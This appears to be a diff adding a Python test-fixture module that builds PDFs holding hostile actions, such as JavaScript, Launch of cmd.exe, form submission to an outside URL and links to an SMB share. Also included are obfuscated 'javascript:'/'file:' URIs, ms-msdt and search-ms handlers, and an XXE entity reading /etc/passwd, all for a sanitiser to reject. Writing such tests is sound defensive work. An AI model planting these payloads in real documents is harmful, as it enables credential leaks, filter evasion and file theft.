@@ -1,0 +1,277 @@
+"""PDFs that act by themselves or name something outside, one for each way; and the forms and links that may stay."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+from pypdf import PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    NumberObject,
+    StreamObject,
+    TextStringObject,
+)
+
+from tests.support.paper_builders import a_pdf, a_writer
+
+SHARE = r"\\10.0.0.66\share\a.pdf"
+Place = Callable[[PdfWriter, Any], None]
+XFA = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">{}</xdp:xdp>'
+TEMPLATE = '<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">{}</subform></template>'
+FIELD = '<field name="ten"><ui><textEdit/></ui><value><text>Hoa</text></value></field>'
+XFA_SCRIPT = XFA.format(
+    TEMPLATE.format('<event activity="initialize"><script contentType="application/x-javascript">x</script></event>')
+)
+XFA_FIELDS = XFA.format(
+    TEMPLATE.format(FIELD)
+    + '<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><f><ten>Hoa</ten></f></xfa:data>'
+    "</xfa:datasets>"
+)
+
+
+def made(value: Any) -> Any:
+    """A PDF object of a plain value: names begin with a slash, other texts are strings."""
+    if isinstance(value, dict):
+        return DictionaryObject({NameObject(name): made(each) for name, each in value.items()})
+    if isinstance(value, list):
+        return ArrayObject([made(each) for each in value])
+    if isinstance(value, str):
+        return NameObject(value) if value.startswith("/") else TextStringObject(value)
+    if isinstance(value, int):
+        return NumberObject(value)
+    if isinstance(value, float):
+        return FloatObject(value)
+    return value
+
+
+def stream(data: bytes, *, compressed: bool = False, **entries: Any) -> StreamObject:
+    """A stream with more entries in its dictionary."""
+    found: StreamObject = DecodedStreamObject()
+    found.set_data(data)
+    if compressed:
+        found = found.flate_encode()
+    for name, value in entries.items():
+        found[NameObject(f"/{name}")] = made(value)
+    return found
+
+
+def in_root(key: str) -> Place:
+    """Under a key of the catalogue."""
+
+    def place(writer: PdfWriter, value: Any) -> None:
+        writer.root_object[NameObject(key)] = made(value)
+
+    return place
+
+
+def in_page(key: str) -> Place:
+    """Under a key of the first page."""
+
+    def place(writer: PdfWriter, value: Any) -> None:
+        writer.pages[0][NameObject(key)] = made(value)
+
+    return place
+
+
+def in_annotation(key: str, subtype: str = "/Link") -> Place:
+    """Under a key of an annotation, which is an object of its own."""
+
+    def place(writer: PdfWriter, value: Any) -> None:
+        note = {"/Type": "/Annot", "/Subtype": subtype, "/Rect": [10, 10, 100, 30], key: value}
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(made(note))])
+
+    return place
+
+
+def in_outline(writer: PdfWriter, value: Any) -> None:
+    """As what a bookmark does."""
+    item = writer._add_object(made({"/Title": "x", "/A": value}))
+    writer.root_object[NameObject("/Outlines")] = made({"/First": item, "/Last": item, "/Count": 1})
+
+
+def in_field(writer: PdfWriter, value: Any) -> None:
+    """As what a field of a form does by itself."""
+    field = writer._add_object(made({"/FT": "/Tx", "/T": "ten", "/AA": {"/K": value}}))
+    writer.root_object[NameObject("/AcroForm")] = made({"/Fields": [field]})
+
+
+def after_page(writer: PdfWriter, value: Any) -> None:
+    """As what follows on a harmless action at the opening."""
+    following = writer._add_object(made(value))
+    in_root("/OpenAction")(writer, {"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": following})
+
+
+def after_several(writer: PdfWriter, value: Any) -> None:
+    """As the last of several that follow one another."""
+    last = {"/S": "/Named", "/N": "/NextPage", "/Next": [{"/S": "/GoTo", "/D": "x"}, value]}
+    in_root("/OpenAction")(writer, {"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": last})
+
+
+CLICKED: dict[str, Place] = {"link": in_annotation("/A"), "button": in_annotation("/A", "/Widget"), "mark": in_outline}
+BY_ITSELF: dict[str, Place] = {
+    "opening": in_root("/OpenAction"),
+    "next": after_page,
+    "next of next": after_several,
+    "closing": lambda writer, value: in_root("/AA")(writer, {"/WC": value}),
+    "page": lambda writer, value: in_page("/AA")(writer, {"/O": value}),
+    "pointer": lambda writer, value: in_annotation("/AA")(writer, {"/E": value}),
+    "typing": in_field,
+}
+FORBIDDEN: dict[str, tuple[Any, str]] = {
+    "script": ({"/S": "/JavaScript", "/JS": "app.alert(1)"}, "pdf_script"),
+    "program": ({"/S": "/Launch", "/F": "cmd.exe"}, "pdf_launch"),
+    "sending": ({"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "http://x.vn"}}, "pdf_launch"),
+    "importing": ({"/S": "/ImportData", "/F": SHARE}, "pdf_launch"),
+    "share": ({"/S": "/GoToR", "/F": SHARE, "/D": [0, "/Fit"]}, "pdf_external"),
+    "attached page": ({"/S": "/GoToE", "/F": SHARE, "/T": {"/R": "/P"}}, "pdf_external"),
+    "thread outside": ({"/S": "/Thread", "/F": SHARE, "/D": 0}, "pdf_external"),
+    "film": ({"/S": "/Movie", "/T": "x"}, "pdf_media"),
+    "sound": ({"/S": "/Sound", "/Volume": 1}, "pdf_media"),
+    "rendition": ({"/S": "/Rendition", "/OP": 0}, "pdf_media"),
+    "model": ({"/S": "/GoTo3DView", "/V": 0}, "pdf_media"),
+    "rich media": ({"/S": "/RichMediaExecute", "/CMD": {"/C": "x"}}, "pdf_media"),
+}
+"""Actions that a paper has nowhere."""
+ONLY_CLICKED: dict[str, Any] = {
+    "address": {"/S": "/URI", "/URI": "https://example.gov.vn"},
+    "hiding": {"/S": "/Hide", "/T": "ten"},
+    "emptying": {"/S": "/ResetForm"},
+    "layers": {"/S": "/SetOCGState", "/State": []},
+    "printing": {"/S": "/Named", "/N": "/Print"},
+}
+"""Actions that may follow a click, and nothing else."""
+OTHERS: dict[str, tuple[Place, Any, str]] = {
+    "names of scripts": (in_root("/Names"), {"/JavaScript": {"/Names": ["a", {"/S": "/JavaScript"}]}}, "pdf_script"),
+    "address of a script": (in_annotation("/A"), {"/S": "/URI", "/URI": "java\tscript:app.alert(1)"}, "pdf_script"),
+    "address of a file": (in_annotation("/A"), {"/S": "/URI", "/URI": "file://10.0.0.66/share"}, "pdf_external"),
+    "address of a share": (in_annotation("/A"), {"/S": "/URI", "/URI": SHARE}, "pdf_external"),
+    **{
+        f"address of a file, {how}": (in_annotation("/A"), {"/S": "/URI", "/URI": address}, reason)
+        for how, address, reason in (
+            ("behind a byte order mark", "\xef\xbb\xbffile://10.0.0.66/a", "pdf_external"),
+            ("behind a mark of two bytes", "\ufefffile:///c:/a", "pdf_external"),
+            ("behind an invisible mark", "fi\u200ble:///c:/a", "pdf_external"),
+            ("a soft hyphen inside", "java\xadscript:app.alert(1)", "pdf_script"),
+            ("with an escaped letter", "%66ile:///c:/a", "pdf_external"),
+            ("with an escaped script", "javascript%3Aapp.alert(1)", "pdf_script"),
+            ("with escaped strokes", "%5C%5C10.0.0.66%5Cshare", "pdf_external"),
+            ("with escaped slashes", "%2F%2F10.0.0.66/share", "pdf_external"),
+            ("of the folder above", "../../secret.pdf", "pdf_external"),
+            ("of an escaped folder above", "a/%2e%2e/%2E%2E/secret.pdf", "pdf_external"),
+            ("added to a mail", "mailto:a@b.vn?subject=x&attach=c:/secret.txt", "pdf_external"),
+            ("inserted into a mail", "mailto:a@b.vn?%61ttachment=/etc/passwd", "pdf_external"),
+            ("of another program", "ms-msdt:/id", "pdf_external"),
+            ("of a search", "search-ms:query=a&crumb=location:x", "pdf_external"),
+            ("in data", "data:text/html,a", "pdf_external"),
+        )
+    },
+    "share of a time stamp": (in_root("/SV"), {"/TimeStamp": {"/URL": SHARE, "/Ff": 1}}, "pdf_external"),
+    "picture in a formatted note": (
+        in_annotation("/RC", "/FreeText"),
+        f"<body><img src='{SHARE}'/></body>",
+        "pdf_external",
+    ),
+    "style in a formatted note": (
+        in_annotation("/RC", "/FreeText"),
+        "<p style='background:url(//10.0.0.66/a)'>a</p>",
+        "pdf_external",
+    ),
+    "link of a formatted field": (in_annotation("/RV", "/Widget"), "<a href='&#102;ile:///c:/a'>a</a>", "pdf_external"),
+    "script in a formatted field": (in_annotation("/RV", "/Widget"), "<body><script>x</script></body>", "pdf_script"),
+    "base of a share": (in_root("/URI"), {"/Base": "file:///c:/"}, "pdf_external"),
+    "another kind": (in_annotation("/A"), {"/S": "/GoToDp", "/Dp": {}}, "pdf_unknown_content"),
+    "a menu's command": (in_annotation("/A"), {"/S": "/Named", "/N": "/SaveAs"}, "pdf_unknown_content"),
+    "a key that the kind has not": (in_root("/OpenAction"), {"/S": "/GoTo", "/D": "x", "/URI": "a"}, "pdf_auto_action"),
+    "two kinds": (in_root("/OpenAction"), {"/S": "/FDF", "/D": "x"}, "pdf_auto_action"),
+    "steps of a page": (in_page("/PresSteps"), {"/NA": {"/S": "/URI", "/URI": "http://x.vn"}}, "pdf_auto_action"),
+    "film note": (in_annotation("/T", "/Movie"), "x", "pdf_media"),
+    "sound note": (in_annotation("/T", "/Sound"), "x", "pdf_media"),
+    "screen note": (in_annotation("/T", "/Screen"), "x", "pdf_media"),
+    "model note": (in_annotation("/T", "/3D"), "x", "pdf_media"),
+    "rich note": (in_annotation("/T", "/RichMedia"), "x", "pdf_media"),
+    "file note": (in_annotation("/T", "/FileAttachment"), "x", "pdf_embedded_file"),
+    "unknown note": (in_annotation("/T", "/Teleport"), "x", "pdf_unknown_content"),
+    "portfolio": (in_root("/Collection"), {"/View": "/D"}, "pdf_embedded_file"),
+    "names of files": (in_root("/Names"), {"/EmbeddedFiles": {"/Names": []}}, "pdf_embedded_file"),
+    "file of a part": (in_page("/AF"), [{"/Type": "/Filespec", "/EF": {"/F": 0}}], "pdf_embedded_file"),
+    "names of films": (in_root("/Names"), {"/Renditions": {"/Names": []}}, "pdf_media"),
+    "names of pages on the web": (in_root("/Names"), {"/URLS": {"/Names": []}}, "pdf_external"),
+    "unknown names": (in_root("/Names"), {"/Spells": {"/Names": []}}, "pdf_unknown_content"),
+    "unknown part": (in_root("/Spells"), {"/X": 1}, "pdf_unknown_content"),
+    "pages kept from the web": (in_root("/SpiderInfo"), {"/V": 1}, "pdf_external"),
+    "file named by a note": (in_annotation("/FS", "/Text"), {"/Type": "/Filespec", "/UF": SHARE}, "pdf_external"),
+    "wish for script": (in_root("/Requirements"), [{"/S": "/EnableJavaScripts"}], "pdf_script"),
+}
+
+
+def list_streams() -> Iterator[tuple[str, StreamObject, str]]:
+    """Streams that read another file, or are programs."""
+    yield "data of a share", stream(b"", F=SHARE), "pdf_external"
+    yield "data of an address", stream(b"", F={"/FS": "/URL", "/F": "http://x.vn/a"}), "pdf_external"
+    yield "page of another file", stream(b"", Subtype="/Form", Ref={"/F": {"/F": SHARE}, "/Page": 0}), "pdf_external"
+    yield "picture of another file", stream(b"", Subtype="/Image", OPI={"/1.3": {"/F": SHARE}}), "pdf_external"
+    yield "program for a printer", stream(b"", Subtype="/PS"), "pdf_unknown_content"
+
+
+def list_forms() -> Iterator[tuple[str, Any, str | None]]:
+    """XFA forms by how they are packed, and why each is set aside."""
+    half = len(XFA_SCRIPT) // 2 + 20
+    parts = [XFA_SCRIPT[:half].encode(), XFA_SCRIPT[half:].encode()]
+    yield "stream", stream(XFA_SCRIPT.encode()), "pdf_script"
+    yield "compressed", stream(XFA_SCRIPT.encode(), compressed=True), "pdf_script"
+    yield "two bytes a letter", stream(XFA_SCRIPT.encode("utf-16")), "pdf_script"
+    yield "array", ["a", stream(parts[0]), "b", stream(parts[1], compressed=True)], "pdf_script"
+    bare = b"<template><field><event><script>x</script></event></field></template>"
+    yield "no space of names", stream(bare), "pdf_script"
+    yield "sending", stream(XFA.format(TEMPLATE.format("<submit target='http://x.vn'/>")).encode()), "pdf_script"
+    yield "picture outside", stream(XFA.format(TEMPLATE.format(f"<image href='{SHARE}'/>")).encode()), "pdf_external"
+    yield "unknown part", stream(XFA.format(TEMPLATE.format("<teleport/>")).encode()), "pdf_dynamic_form"
+    yield "entities", stream(b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"), "pdf_dynamic_form"
+    yield "text", XFA_SCRIPT, "pdf_dynamic_form"
+    yield "no XML", stream(b"<template"), "pdf_dynamic_form"
+    yield "fields", stream(XFA_FIELDS.encode(), compressed=True), None
+    yield "fields in an array", ["template", stream(XFA_FIELDS.encode())], None
+
+
+def with_form(form: Any) -> PdfWriter:
+    """A writer whose form has this XFA, streams as objects of their own."""
+    writer = a_writer()
+
+    def own(part: Any) -> Any:
+        return writer._add_object(part) if isinstance(part, StreamObject) else made(part)
+
+    packed = ArrayObject([own(part) for part in form]) if isinstance(form, list) else own(form)
+    writer.root_object[NameObject("/AcroForm")] = made({"/Fields": [], "/XFA": packed})
+    return writer
+
+
+def with_stream(one: StreamObject) -> bytes:
+    """A PDF whose page shows a stream."""
+    writer = a_writer()
+    shown = DictionaryObject({NameObject("/X1"): writer._add_object(one)})
+    writer.pages[0][NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): shown})
+    return a_pdf(writer)
+
+
+def placed(place: Place, value: Any) -> PdfWriter:
+    """A writer with a value in its place."""
+    writer = a_writer()
+    place(writer, value)
+    return writer
+
+
+def list_active() -> Iterator[tuple[str, PdfWriter, str]]:
+    """Every forbidden thing in every place, and why it is set aside."""
+    for name, (value, reason) in FORBIDDEN.items():
+        for where, place in {**CLICKED, **BY_ITSELF}.items():
+            yield f"{name} by {where}", placed(place, value), reason
+    for name, value in ONLY_CLICKED.items():
+        for where, place in BY_ITSELF.items():
+            yield f"{name} by {where}", placed(place, value), "pdf_auto_action"
+    for name, (place, value, reason) in OTHERS.items():
+        yield name, placed(place, value), reason
